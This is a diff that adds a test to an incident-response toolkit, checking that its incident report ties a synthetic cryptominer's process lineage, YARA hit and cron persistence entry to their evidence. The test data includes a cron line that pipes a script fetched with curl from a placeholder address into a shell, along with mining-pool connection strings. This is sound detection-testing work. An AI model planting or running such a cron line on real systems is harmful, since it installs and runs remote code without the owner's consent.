@@ -9,6 +9,7 @@ from irkit.evidence.records import Finding
 from irkit.evidence.verify import verify_bundle
 from irkit.evidence.view import view_from_parts, view_from_reader
 from irkit.evidence.writer import EvidenceWriter
+from irkit.hunt.hits import MatchedString, YaraHit, hit_to_finding
 from irkit.report.html import (
     REPORT_MEMBER,
     build_report,
@@ -16,7 +17,16 @@ from irkit.report.html import (
     script_json,
     write_report_member,
 )
-from tests.reportbundles import SCRIPT_TITLE, XSS_CMDLINE, jsonl, process, scenario_bundle
+from irkit.report.incident import build_incident
+from irkit.report.summary import summarize
+from tests.reportbundles import (
+    SCRIPT_TITLE,
+    XSS_CMDLINE,
+    jsonl,
+    process,
+    scenario_bundle,
+    scenario_records,
+)
 
 DATA_BLOCK = re.compile(
     r'<script type="application/json" id="irkit-data">(.*?)</script>', re.DOTALL
@@ -115,3 +125,49 @@ def test_a_report_for_a_sealed_bundle_matches_the_one_from_its_view(tmp_path: Pa
     assert len(data["timeline"]["events"]) > 20
     assert data["summary"]["hosts"] == [view.label]
     assert data["findings"][0]["title"].startswith("Miner hiding")
+
+
+def test_the_incident_joins_each_finding_to_the_records_it_names() -> None:
+    """The lineage of a flagged process, its window, and evidence found by pid, persistence
+    entry and YARA hit, with findings made the way triage makes them (hit_to_finding)."""
+    records = scenario_records()
+    cron = records["records/persistence.jsonl"][0]
+    hit = YaraHit(
+        rule="Miner_Test",
+        namespace="miners",
+        severity="high",
+        description="synthetic",
+        target="pid:4242",
+        target_kind="process",
+        strings=[MatchedString("$pool", 0x7FFF0010, 16, "stratum+tcp://x")],
+        matches=1,
+        pid=4242,
+    )
+    records["records/hunts.jsonl"] = [hit]
+    records["records/findings.jsonl"] = [
+        hit_to_finding(hit),
+        Finding(title="cron persistence: /etc/crontab:12", severity="high", source="heuristic",
+                path="/etc/crontab", time=cron["mtime"]),
+    ]  # fmt: skip
+    view = view_from_parts(records)
+    summary = summarize([view])
+    incident = build_incident([view], summary.findings)
+    [(_host, [init])] = incident.trees
+    [sshd] = init.children
+    [miner] = sshd.children
+    assert (init.pid, sshd.pid, miner.pid) == (1, 812, 4242)
+    assert miner.flagged and not init.flagged
+    assert ("flag", "kernel-thread-imitation") in miner.signals
+    assert ("high", "YARA Miner_Test") in miner.signals
+    assert incident.window_text == ("2026-11-30T10:04:00.000000Z", "2026-11-30T10:05:00.123456Z")
+    evidence = {
+        f["title"]: [(e.label, e.value) for e in items]
+        for f, items in zip(summary.findings, incident.evidence, strict=True)
+    }
+    yara = evidence["YARA Miner_Test on process pid:4242"]
+    assert ("command line", XSS_CMDLINE) in yara
+    assert ("YARA $pool @ 0x7fff0010", "stratum+tcp://x") in yara
+    assert ("socket", "tcp 127.0.0.1:43210 → 203.0.113.7:3333 ESTABLISHED [pool-port]") in yara
+    assert evidence["cron persistence: /etc/crontab:12"] == [
+        ("cron line /etc/crontab:12", "*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh")
+    ]
